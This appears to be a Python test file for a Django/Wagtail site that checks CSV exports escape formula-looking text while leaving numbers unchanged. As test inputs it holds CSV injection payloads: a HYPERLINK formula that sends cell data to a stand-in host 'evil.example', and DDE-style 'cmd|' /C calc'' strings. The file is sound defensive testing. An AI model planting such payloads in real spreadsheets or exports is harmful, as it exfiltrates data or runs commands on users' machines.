"""CSV injection: text that a spreadsheet would run as a formula is neutralised in every CSV the site writes, while
numbers stay numbers."""

import csv
import io

import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse
from openpyxl import load_workbook
from wagtail.contrib.forms.models import FormSubmission

from hub.csv_safety import safe_cell
from indicators.importer import import_indicator_file
from indicators.models import Indicator, IndicatorIndexPage, IndicatorValue
from tests.factories import make_document
from tests.toolkit.factories import ToolkitIndexPageFactory, ToolkitPageFactory
from toolkit.models import record_download

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'


@pytest.mark.parametrize(
    "value",
    [HYPERLINK, "@SUM(1+1)*cmd|' /C calc'!A0", "+44 20 7946 0000 ext", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"],
)
def test_text_starting_with_a_formula_character_gets_a_leading_quote(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["-17.5", "+3", "-0.001", "1e-05", "-1.5e+06", "42", "", "Plain text", "a=b"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert safe_cell(value) == value


def test_values_that_are_not_text_are_left_alone():
    assert safe_cell(-17.5) == -17.5 and safe_cell(None) is None and safe_cell(3) == 3


def rows_of(response) -> list[list[str]]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8"))))


# The public indicator downloads ------------------------------------------------------------------------------------

HEADER = "Indicator ID,Indicator Name,Area Code,Area Name,Area Type,Time period,Value,Lower CI 95.0 limit,Value note\n"


@pytest.fixture
def hostile_indicator(home):
    page = IndicatorIndexPage(title="Indicators", slug="data")
    home.add_child(instance=page)
    page.save_revision().publish()
    rows = [
        f'x1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",E92000001,England,England,2022,-17.5,-18.25,@SUM(1+1)\n',
        f'x1,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",E54000050,+North East,ICB,2022,+3,1e-05,-\n',
    ]
    result = import_indicator_file(io.BytesIO((HEADER + "".join(rows)).encode()), create_missing=True)
    assert result.created == 2, result.summary()
    return Indicator.objects.get(source_identifier="x1")


@pytest.mark.django_db
@pytest.mark.parametrize("which", ["one", "all"])
def test_indicator_downloads_neutralise_formulas_and_keep_numbers(client, hostile_indicator, which):
    url = f"/data/{hostile_indicator.slug}/csv/" if which == "one" else "/data/download/"
    rows = rows_of(client.get(url))
    header, england, north_east = rows[0], *sorted(rows[1:], key=lambda row: row[2])[::-1]
    cell = dict(zip(header, england, strict=True))
    assert cell["Indicator Name"] == "'" + HYPERLINK
    assert cell["Value note"] == "'@SUM(1+1)"
    assert (cell["Value"], cell["Lower CI 95.0 limit"]) == ("-17.5", "-18.25")
    cell = dict(zip(header, north_east, strict=True))
    assert cell["Area Name"] == "'+North East"
    assert (cell["Value"], cell["Lower CI 95.0 limit"]) == ("3", "0.00001")  # exact, never in exponent notation


@pytest.mark.django_db
def test_the_indicator_csv_round_trips_its_numbers_exactly(client, hostile_indicator):
    fields = ("area__code", "period", "value", "lower_ci")
    before = sorted(IndicatorValue.objects.values_list(*fields))
    body = b"".join(client.get(f"/data/{hostile_indicator.slug}/csv/").streaming_content)
    IndicatorValue.objects.all().delete()
    result = import_indicator_file(io.BytesIO(body))
    assert result.created == 2 and not result.skipped
    assert sorted(IndicatorValue.objects.values_list(*fields)) == before


# Admin exports -----------------------------------------------------------------------------------------------------


@pytest.fixture
def admin_client(client, home):
    client.force_login(get_user_model().objects.create_superuser("admin", "admin@example.org", "a-long-pass-12345"))
    return client


@pytest.fixture
def toolkit(home):
    return ToolkitPageFactory(parent=ToolkitIndexPageFactory(parent=home), title="=1+1 tool", slug="tool")


@pytest.mark.django_db
def test_the_toolkit_download_report_csv_neutralises_document_titles(admin_client, toolkit):
    document = make_document(title=HYPERLINK)
    record_download(document=document, toolkit=toolkit)
    record_download(document=document, toolkit=toolkit)
    rows = rows_of(admin_client.get(reverse("toolkit_download_report") + "?period=all&export=csv"))
    assert rows[1][1:] == ["'=1+1 tool", "'" + HYPERLINK, "file", "2"]


@pytest.mark.django_db
def test_anonymous_feedback_is_exported_as_text_in_csv_and_xlsx(admin_client, toolkit):
    admin_client.post(
        f"{toolkit.url}feedback/",
        {"used": "used", "how_used": HYPERLINK, "organisation": "@SUM(A1:A9)", "email": "", "website": ""},
        REMOTE_ADDR="192.0.2.1",
    )
    assert FormSubmission.objects.count() == 1
    url = reverse("wagtailforms:list_submissions", args=[toolkit.pk])
    rows = rows_of(admin_client.get(url + "?export=csv"))
    assert rows[1][2:4] == ["'" + HYPERLINK, "'@SUM(A1:A9)"]
    # XLSX: Wagtail's export already stores formula-looking values as text cells (relied on, not changed).
    response = admin_client.get(url + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows(min_row=2) for cell in row}
    assert cells[HYPERLINK] == "s" and cells["@SUM(A1:A9)"] == "s"


@pytest.mark.django_db
def test_wagtail_admin_report_csv_exports_neutralise_page_titles(admin_client, toolkit):
    """Wagtail's own reports (here "Aging pages") export titles editors typed: they go through safe_cell too."""
    toolkit.save_revision().publish()
    response = admin_client.get(reverse("wagtailadmin_reports:aging_pages") + "?export=csv")
    assert response.status_code == 200
    titles = [row[0] for row in rows_of(response)[1:]]
    assert "'=1+1 tool" in titles
    assert "=1+1 tool" not in titles
